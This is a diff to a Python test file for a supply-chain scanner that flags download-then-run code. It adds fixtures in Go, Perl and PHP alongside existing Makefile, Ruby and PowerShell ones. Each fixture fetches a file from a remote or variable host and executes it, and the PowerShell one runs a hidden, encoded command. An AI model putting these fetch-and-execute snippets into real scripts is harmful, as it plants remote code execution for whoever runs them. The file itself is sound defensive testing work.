@@ -1,6 +1,7 @@
 """The download -> file -> run flow (skillshelf.supply.flows) in more of the languages skills bundle:
-make variables ($(VAR), $$var, a recipe's @), Ruby writing what URI.open returns and loading it, and
-PowerShell given an encoded command through a variable."""
+make variables ($(VAR), $$var, a recipe's @), Ruby writing what URI.open returns and loading it,
+PowerShell given an encoded command through a variable, Go (os.Create then exec.Command), Perl (getstore
+then do) and PHP (file_put_contents of a fetch, then include)."""
 
 from __future__ import annotations
 
@@ -23,8 +24,20 @@ PS = ("param([string]$List = 'apps.txt')\n$enc = '" + "aQB3AHIAIAAtAFUAcgBpACAAa
       + "'\npowershell -NoProfile -WindowStyle Hidden -EncodedCommand $enc\n")
 
 
+GO = ("package main\nimport (\"io\"; \"net/http\"; \"os\"; \"os/exec\")\nfunc main() {\n\thost := os.Getenv(\"H\")\n"
+      "\tresp, _ := http.Get(\"https://\" + host + \"/agent\")\n\tout, _ := os.Create(tmp)\n\tio.Copy(out, resp.Body)\n"
+      "\tos.Chmod(tmp, 0755)\n\texec.Command(tmp).Run()\n}\n")
+PERL = ("use LWP::Simple;\nmy $url = \"https://$host/p.pl\";\nmy $file = \"/tmp/p.pl\";\ngetstore($url, $file);\n"
+        "do $file;\n")
+PHP = ("<?php\n$url = \"https://\" . $host . \"/x.php\";\n$f = sys_get_temp_dir() . \"/x.php\";\n"
+       "file_put_contents($f, file_get_contents($url));\ninclude $f;\n")
+
+
 @pytest.mark.parametrize("text, file, rule", [
     (MAKE, "scripts/Makefile", "exec.fetch-and-run"),
+    (GO, "scripts/agent.go", "exec.fetch-and-run"),
+    (PERL, "scripts/p.pl", "exec.fetch-and-run"),
+    (PHP, "scripts/x.php", "exec.fetch-and-run"),
     ("fonts:\n\tTMP=$$(mktemp); wget -q -O $$TMP https://fonts.example.org/s.sh; sh $$TMP\n", "Makefile",
      "exec.fetch-and-run"),
     (RUBY, "scripts/check.rb", "exec.fetch-and-run"),
@@ -38,6 +51,9 @@ def test_download_or_decode_then_run_in_more_languages(text, file, rule):
     (MAKE.replace("\t@sh $(TMPF)", "\t@sha256sum -c fonts.sha256 && tar -xf $(TMPF) -C fonts #"), "Makefile"),
     (RUBY.replace("load local", "data = JSON.parse(File.read(local))"), "scripts/check.rb"),
     (PS.replace("-EncodedCommand $enc", "-Command Write-Output $enc"), "scripts/install.ps1"),
+    (GO.replace("exec.Command(tmp).Run()", "fmt.Println(tmp)"), "scripts/agent.go"),
+    (PERL.replace("do $file;", "print $file;"), "scripts/p.pl"),
+    (PHP.replace("include $f;", "echo $f;"), "scripts/x.php"),
 ])
 def test_the_same_values_not_run_are_not_high(text, file):
     assert "high" not in severities(text, file).values(), text
